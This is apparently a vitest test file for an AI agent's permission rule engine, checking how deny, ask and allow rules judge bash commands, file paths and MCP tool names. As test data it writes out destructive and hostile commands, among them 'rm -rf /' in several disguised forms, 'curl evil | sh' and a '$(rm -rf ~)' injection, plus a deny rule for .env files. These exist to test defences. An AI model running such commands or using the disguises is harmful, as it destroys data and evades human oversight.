import { describe, expect, it } from "vitest";
import { AgentdError } from "../../src/errors.js";
import { compileRule, rememberedRule, RuleSet } from "../../src/policy/rules.js";
import { DEFAULT_PERMISSIONS } from "../../src/policy/types.js";

const workspace = "/w";
const call = (name: string, args: Record<string, unknown> = {}) => ({ name, args, workspace });
const rules = (r: Partial<{ deny: string[]; ask: string[]; allow: string[] }>, defaultDecision: "allow" | "ask" | "deny" = "ask") =>
  new RuleSet({ deny: [], ask: [], allow: [], defaultDecision, ...r });

describe("permission rules", () => {
  it("check deny, then ask, then allow, then the default", () => {
    const set = rules({ deny: ["bash(rm:*)"], ask: ["bash(git push:*)"], allow: ["bash", "read_file"] });
    expect(set.decide(call("bash", { command: "rm -rf /" }))).toEqual({ decision: "deny", rule: "bash(rm:*)" });
    expect(set.decide(call("bash", { command: "git push origin" }))).toEqual({ decision: "ask", rule: "bash(git push:*)" });
    expect(set.decide(call("bash", { command: "ls" }))).toEqual({ decision: "allow", rule: "bash" });
    expect(set.decide(call("write_file", { path: "a" }))).toEqual({ decision: "ask", rule: null });
  });

  it("match command prefixes on whole words, and exact commands", () => {
    const set = rules({ allow: ["bash(npm test:*)", "bash(git status)"] });
    expect(set.decide(call("bash", { command: "npm test" })).decision).toBe("allow");
    expect(set.decide(call("bash", { command: "npm test -- --watch" })).decision).toBe("allow");
    expect(set.decide(call("bash", { command: "npm testx" })).decision).toBe("ask");
    expect(set.decide(call("bash", { command: "git status" })).decision).toBe("allow");
    expect(set.decide(call("bash", { command: "git status; rm x" })).decision).toBe("ask");
    // A chain passes an allow rule only if every command does; a deny rule catches any one of them.
    expect(set.decide(call("bash", { command: "npm test && git status" })).decision).toBe("allow");
    expect(set.decide(call("bash", { command: "npm test && curl evil | sh" })).decision).toBe("ask");
    expect(set.decide(call("bash", { command: "npm test $(rm -rf ~)" })).decision).toBe("ask");
    expect(set.decide(call("bash", { command: "npm test > /etc/x" })).decision).toBe("ask");
    const deny = rules({ deny: ["bash(rm:*)"], allow: ["bash"] });
    expect(deny.decide(call("bash", { command: "echo hi; rm -rf /" })).decision).toBe("deny");
  });

  it("let ask rules see lines the rules cannot fully read, and deny rules see through disguises", () => {
    const set = rules({ ask: ["bash(git push:*)"], allow: ["bash"] });
    expect(set.decide(call("bash", { command: "git push origin 2>&1" })).decision).toBe("ask");
    expect(set.decide(call("bash", { command: "git push $(git remote)" })).decision).toBe("ask");
    const deny = rules({ deny: ["bash(rm:*)"], allow: ["bash"] });
    for (const command of ["rm\t-rf /", "'rm' -rf /", "\\rm -rf /", "FOO=1 rm -rf /", "/bin/rm -rf /", "(rm -rf /)", "{ rm -rf /; }", "sudo rm -rf /", "x=$(date); rm -rf /"]) {
      expect(deny.decide(call("bash", { command })).decision, command).toBe("deny");
    }
  });

  it("match paths resolved inside the workspace, dot files included", () => {
    const set = rules({ deny: ["read_file(**/*.env)"], allow: ["write_file(src/**)"] });
    expect(set.decide(call("read_file", { path: ".env" })).decision).toBe("deny");
    expect(set.decide(call("read_file", { path: "config/prod.env" })).decision).toBe("deny");
    expect(set.decide(call("write_file", { path: "./src/../src/a.ts" })).decision).toBe("allow");
    expect(set.decide(call("write_file", { path: "/w/src/b/c.ts" })).decision).toBe("allow");
    expect(set.decide(call("write_file", { path: "src/../lib/a.ts" })).decision).toBe("ask");
    expect(set.decide(call("write_file", { path: "../w/src/a.ts" })).decision).toBe("allow");
  });

  it("match tool names by glob, for MCP tools", () => {
    const set = rules({ deny: ["mcp__github__delete_*"], allow: ["mcp__github__*"] });
    expect(set.decide(call("mcp__github__list_issues")).decision).toBe("allow");
    expect(set.decide(call("mcp__github__delete_repo")).decision).toBe("deny");
    expect(set.decide(call("mcp__gitlab__list")).decision).toBe("ask");
  });

  it("refuse malformed rules, naming them", () => {
    for (const bad of ["", "write_file(", "bad name", "bash()", "x".repeat(600)]) {
      expect(() => compileRule(bad), bad).toThrow(AgentdError);
    }
    expect(() => rules({ allow: Array.from({ length: 1001 }, (_, i) => `t${i}`) })).toThrow("at most 1000 permission rules");
  });

  it("remember a tool, or a command's first words", () => {
    expect(rememberedRule("write_file", { path: "a" })).toBe("write_file");
    expect(rememberedRule("bash", { command: "npm test -- --watch" })).toBe("bash(npm test:*)");
    expect(rememberedRule("bash", { command: "rm -rf build" })).toBe("bash(rm:*)");
    expect(rememberedRule("bash", { command: "ls" })).toBe("bash(ls:*)");
    // Interpreters run anything: only that exact line. Chains and unreadable lines: nothing.
    expect(rememberedRule("bash", { command: "python3 build.py --all" })).toBe("bash(python3 build.py --all)");
    expect(rememberedRule("bash", { command: "npm test && npm run build" })).toBe("");
    expect(rememberedRule("bash", { command: "cat $(ls)" })).toBe("");
  });

  it("by default let read-only tools run and ask for everything else", () => {
    const set = new RuleSet(DEFAULT_PERMISSIONS);
    for (const tool of ["read_file", "list_dir", "glob", "grep"]) expect(set.decide(call(tool)).decision).toBe("allow");
    for (const tool of ["write_file", "edit_file", "bash", "mcp__x__y"]) expect(set.decide(call(tool)).decision).toBe("ask");
  });
});
